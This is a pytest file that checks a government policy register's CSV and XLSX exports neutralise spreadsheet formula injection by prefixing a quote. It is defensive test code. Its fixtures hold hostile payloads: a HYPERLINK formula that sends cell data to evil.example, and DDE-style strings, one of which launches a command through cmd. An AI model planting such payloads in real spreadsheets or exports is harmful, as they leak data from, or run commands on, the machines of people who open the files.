"""The register's CSV and XLSX exports never carry a live formula (issue 11, item 8).

A drafting office titles its policy `=HYPERLINK(…)`; the document is taken in, reviewed, signed and
published with the services, and the registrar exports the register from the command line and from
the desk. Every cell that a spreadsheet would read as a formula starts with ' (OWASP's advice)."""
from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from desk import auth
from desk.app import create_app
from tests.desk.test_pages import PASSWORD, PEOPLE, sign_in

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"根河市人民政府办公室关于印发《根河市2019年政务公开工作要点》的通知")'
OTHERS = ("+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1")


def published_with_title(svc, folder, title: str) -> str:
    """A dossier whose policy is titled `title`, taken in, approved, signed and published (no Prefect)."""
    from samples.genhe import bundle_files
    from services.dossiers.intake import intake_bundle
    from services.publication.publish import publish
    from services.review.actions import record_decision, record_sign_off
    path = folder / "bundle.zip"
    folder.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w") as z:
        for name, data in bundle_files("complete", title=title).items():
            z.writestr(name, data)
    result = intake_bundle([path], "drafter", svc)
    assert result.accepted, result.problems
    d = result.dossier
    for stage, who in (("unit_check", "director"), ("legality", "reviewer"), ("deliberation", "secretary")):
        record_decision(svc, d, stage, "approve", "同意", who)
    record_sign_off(svc, d, "signer")
    assert publish(svc, d).published
    return d


@pytest.fixture
def hostile(svc, tmp_path):
    from publishing import register
    d = published_with_title(svc, tmp_path / "b", HOSTILE)
    with svc.session() as s:
        entry = register.entry_for(s, d)
        assert entry.title == HOSTILE, entry.title     # the register keeps what the office wrote
        return entry.registration_number


def assert_no_formula_in_xlsx(data: bytes) -> None:
    ws = load_workbook(io.BytesIO(data)).active
    titles = [ws.cell(r, 2) for r in range(2, ws.max_row + 1)]
    assert titles and all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    assert titles[0].value == "'" + HOSTILE and titles[0].data_type == "s"


def assert_no_formula_in_csv(data: bytes) -> None:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[1][1] == "'" + HOSTILE
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_a_formula_title_is_text_in_the_xlsx_and_csv_exports_of_the_cli(cli, hostile, tmp_path):
    xlsx, csv_path = tmp_path / "台帐.xlsx", tmp_path / "台帐.csv"
    cli.json("register", "export", "--format", "xlsx", "--out", xlsx, "--base-url", "https://www.genhe.gov.cn/site")
    cli.json("register", "export", "--format", "csv", "--out", csv_path, "--base-url", "https://www.genhe.gov.cn/site")
    assert_no_formula_in_xlsx(xlsx.read_bytes())
    assert_no_formula_in_csv(csv_path.read_bytes())


def test_a_formula_title_is_text_in_the_exports_downloaded_from_the_desk(home, hostile):
    for name in PEOPLE:
        auth.set_password(home.path, name, PASSWORD)
    registrar = sign_in(create_app(home.path, "test-token"), "editor")
    r = registrar.get("/desk/register/export.xlsx")
    assert r.status_code == 200
    assert_no_formula_in_xlsx(r.content)
    r = registrar.get("/desk/register/export.csv")
    assert r.status_code == 200
    assert_no_formula_in_csv(r.content)


def test_every_formula_start_of_owasp_is_neutralised_and_plain_text_is_not_touched():
    from publishing.register_pages import inert
    for text in (HOSTILE, *OTHERS):
        assert inert(text) == "'" + text
    for value in ("根河市城市供热管理办法", "GHDR-2019-0001", " =1", "＝1", None, 3):
        assert inert(value) == value
